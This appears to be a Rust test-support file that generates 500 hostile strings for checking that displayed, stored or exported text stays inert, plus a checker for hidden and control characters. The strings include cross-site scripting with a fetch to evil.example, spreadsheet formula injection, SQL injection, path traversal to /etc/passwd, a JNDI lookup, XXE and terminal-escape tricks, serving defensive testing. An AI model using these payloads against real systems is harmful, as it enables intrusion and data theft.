//! 500 texts that somebody could send to do harm where they are shown, kept, printed or put into a file.

/// What each kind does where it is not expected.
const KINDS: [fn(usize) -> String; 25] = [
    |n| format!("<script>alert({n})</script>"),
    |n| format!("\"><img src=x onerror=alert({n})>"),
    |n| format!("<svg/onload=fetch('//evil.example/{n}')>"),
    |n| format!("javascript:alert({n})//"),
    |n| format!("status {n} \u{202e}lanoitarepo\u{202c} end"),
    |n| format!("ok\u{2066}{n}\u{2069}\u{200f}\u{200e}\u{61c}"),
    |n| format!("ze\u{200b}ro{n}\u{200c}wi\u{200d}dth\u{feff}\u{2060}"),
    |n| format!("tag\u{e0001}\u{e0041}\u{e0042}{n} \u{ad}soft\u{fe0f}"),
    |n| format!("\u{1b}[2J\u{1b}[1;31mall is well {n}\u{1b}[0m"),
    |n| format!("\u{1b}]0;title {n}\u{7}\u{1b}]8;;http://evil.example\u{1b}\\link\u{9b}31m"),
    |n| "%s%n%x%d{}{0}$(id)`id`".repeat(n % 7 + 1),
    |n| format!("=cmd|'/c calc'!A{n}"),
    |n| format!("{}HYPERLINK(\"http://evil.example\",\"{n}\")", ["=", "+", "-", "@", "\t=", "\r="][n % 6]),
    |n| "long ".repeat(2_000 * (n % 20 + 1)),
    |n| format!("nul\0in\0the{n}\0middle"),
    |n| format!("\\ud800{n}\\udfff \\u0000"),
    |n| format!("'; drop table checks; -- {n}"),
    |n| format!("{}etc/passwd", "../".repeat(n % 12 + 1)),
    |n| format!("{{{{ constructor.constructor('alert({n})')() }}}} ${{jndi:ldap://evil.example/{n}}} <%= {n} %>"),
    |n| format!("line one\nline two {n}\r\nline three\rline four\u{85}five\u{2028}six\u{2029}seven\u{b}eight\u{c}nine"),
    |n| format!("Z\u{310}\u{311}\u{312}{}algo", "\u{334}\u{335}\u{336}".repeat(n % 30 + 1)),
    |n| format!("{}\u{10ffff}\u{fffe}\u{e000}", char::from_u32(0xd7ff - u32::try_from(n).unwrap()).unwrap()),
    |n| format!("\u{1}\u{2}\u{3}\u{8}\u{8}\u{8}{n}\u{7f}\u{80}\u{9f}"),
    |n| format!("http://user:pass{n}@evil.example/?token=abc{n} password=hunter{n}"),
    |n| format!("{}]]>&lt;&#0;&#x202e;<!ENTITY x SYSTEM \"file:///etc/passwd\">{n}", "[".repeat(n % 300)),
];

pub(crate) fn hostile_strings() -> Vec<String> {
    (0..500).map(|n| KINDS[n % KINDS.len()](n)).collect()
}

/// What must not be where a person reads one line, or several: what nobody sees, and what moves what one sees.
#[track_caller]
pub(crate) fn assert_inert(text: &str, several_lines: bool) {
    for letter in text.chars() {
        let breaks = letter == '\n' || letter == '\t';
        let hidden = letter.is_control()
            || ('\u{200b}'..='\u{200f}').contains(&letter)
            || ('\u{2028}'..='\u{202e}').contains(&letter)
            || ('\u{2060}'..='\u{206f}').contains(&letter)
            || ('\u{e0000}'..='\u{e007f}').contains(&letter)
            || ['\u{61c}', '\u{ad}', '\u{feff}'].contains(&letter);
        assert!(!hidden || (several_lines && breaks), "{letter:?} in {text:?}");
    }
}
